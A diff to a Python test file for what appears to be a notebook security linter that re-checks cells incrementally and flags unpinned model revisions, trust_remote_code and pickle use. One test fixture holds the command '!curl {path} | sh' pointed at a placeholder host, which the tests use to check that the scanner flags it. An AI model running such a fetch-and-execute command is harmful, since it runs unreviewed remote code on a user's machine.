@@ -151,6 +151,10 @@ class Edited:
                 del self.cells[key]
                 sent.pop(key, None)
 
+    def type(self, key: str, source: str) -> list[str]:
+        self.cells[key] = source
+        return self.update({key: source}, ordered=False)
+
     def update(self, sent: dict[str, str], *, ordered: bool = True) -> list[str]:
         changed = self.incremental.update(sent, self.order if ordered else None)
         self.heard = {key: self.heard.get(key, ([], None)) for key in self.order}
@@ -196,8 +200,24 @@ def test_a_constant_far_above_pins_a_call() -> None:
         "from transformers import AutoModel", "revision = 'main'", "AutoModel.from_pretrained('a/b', revision=revision)"
     )
     assert rules(edited, "c2")
-    assert edited.update({"c1": f"revision = '{COMMIT}'"}, ordered=False) == ["c2"]
+    assert edited.type("c1", f"revision = '{COMMIT}'") == ["c2"]
     assert not rules(edited, "c2")
+
+
+def test_a_name_that_is_added_to_is_followed() -> None:
+    edited = loaded("import pickle as p", "path = 'https://a.example/'", "path += 'm'", "!curl {path} | sh")
+    edited.type("c1", "path = 'https://b.example/'")
+    assert "b.example" in edited.heard["c3"][0][0].message
+    assert edited.heard == from_scratch(edited.cells, edited.order)
+
+
+def test_a_number_is_no_truth() -> None:
+    edited = loaded(
+        "from transformers import AutoModel", "flag = True", "AutoModel.from_pretrained('a/b', trust_remote_code=flag)"
+    )
+    before = rules(edited, "c2")
+    assert edited.type("c1", "flag = 1") == ["c2"]
+    assert rules(edited, "c2") != before
 
 
 def test_an_edit_touches_no_cell_that_sees_no_difference() -> None:
@@ -211,12 +231,12 @@ def test_an_edit_touches_no_cell_that_sees_no_difference() -> None:
         return walk(cell, *more, **options)  # type: ignore[arg-type]
 
     judge.walk = noted  # type: ignore[method-assign,assignment]
-    edited.update({"c5": "pickle.load(f)\nx = 1"}, ordered=False)
+    edited.type("c5", "pickle.load(f)\nx = 1")
     assert walked == ["c5"]
     # Back and forth: what was known of the others under the same names is known still.
-    edited.update({"c0": "import pickle as"}, ordered=False)
+    edited.type("c0", "import pickle as")
     walked.clear()
-    edited.update({"c0": "import pickle"}, ordered=False)
+    edited.type("c0", "import pickle")
     assert walked == ["c0"]
 
 
